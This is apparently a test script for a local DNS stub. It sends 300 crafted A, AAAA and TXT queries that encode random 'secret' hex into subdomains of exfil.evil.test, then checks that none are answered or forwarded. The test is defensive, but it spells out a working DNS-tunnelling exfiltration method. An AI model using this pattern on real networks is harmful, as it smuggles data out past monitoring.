# expect: succeeded
# connections: 0
# stdout: queries answered: 0 of 300
# Data smuggled out in DNS names: the stub answers only allowlisted names
# and forwards nothing, so none of these reaches any resolver.
import os, random, socket, struct

secret = os.urandom(64).hex()
answered = 0
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    for i in range(300):
        label = secret[(i * 8) % 120 : (i * 8) % 120 + 8]
        name = f"{label}.{i}.exfil.evil.test"
        qtype = [1, 28, 16][i % 3]  # A, AAAA, TXT
        question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
        qid = random.randrange(65536)
        s.sendto(struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + question + struct.pack(">HH", qtype, 1), ("127.0.0.1", 53))
        reply = s.recv(4096)
        _, flags, _, an, _, _ = struct.unpack(">HHHHHH", reply[:12])
        if an:
            answered += 1
print(f"queries answered: {answered} of 300")
